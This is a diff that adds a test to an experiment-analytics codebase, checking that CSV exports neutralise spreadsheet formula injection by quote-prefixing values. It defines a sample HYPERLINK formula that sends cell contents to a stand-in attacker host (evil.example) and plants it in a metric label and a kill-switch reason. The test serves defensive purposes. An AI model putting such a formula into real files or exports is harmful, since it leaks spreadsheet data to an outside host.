@@ -266,3 +266,34 @@ def test_a_row_without_a_relative_ci_shows_its_status_not_a_lone_p_value():
     (row,) = metric_table(body=body, options=ResultsOptions(phase=1)).rows
     assert row["p_value"] is None and row["verdict"] == "control_mean_near_zero"
     assert "not distinguishable from 0" in row["verdict_why"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+
+
+def test_csv_exports_write_a_metric_label_and_a_kill_reason_as_text_not_formulas(staff, ana):
+    """CSV injection (issue 30, finding 3): text a spreadsheet would evaluate gets OWASP's quote."""
+    from analytics.models import MetricDefinition
+    from analytics.services import results_compute
+    from routing.models import KillScope
+    from routing.ops_services import kill_switch_set
+
+    MetricDefinition.objects.filter(name="task_success").update(label=FORMULA)
+    results_compute(experiment=ana.experiment)
+    kill_switch_set(scope=KillScope.EXPERIMENT, target="ana", active=True, reason=FORMULA, actor="pm")
+
+    def export(table: str) -> list[dict[str, str]]:
+        response = staff.get("/results/ana/", {"export": "csv", "table": table})
+        assert response.status_code == 200
+        return list(csv.DictReader(io.StringIO(response.content.decode())))
+
+    metrics = export("metrics")
+    labels = {r["metric"] for r in metrics if r["metric_name"] == "task_success"}
+    assert labels == {"'" + FORMULA}
+    latency = next(r for r in metrics if r["metric_name"] == "latency_ms" and r["variant"] == "fast")
+    assert float(latency["relative_lift"]) < -0.3  # a negative float stays a number
+    assert latency["relative_lift"].startswith("-")
+    assert [r["reason"] for r in export("kills")] == ["'" + FORMULA]
+    # the JSON export keeps the raw value (it is not opened by spreadsheets)
+    kills = staff.get("/results/ana/", {"export": "json", "table": "kills"}).json()["rows"]
+    assert [r["reason"] for r in kills] == [FORMULA]
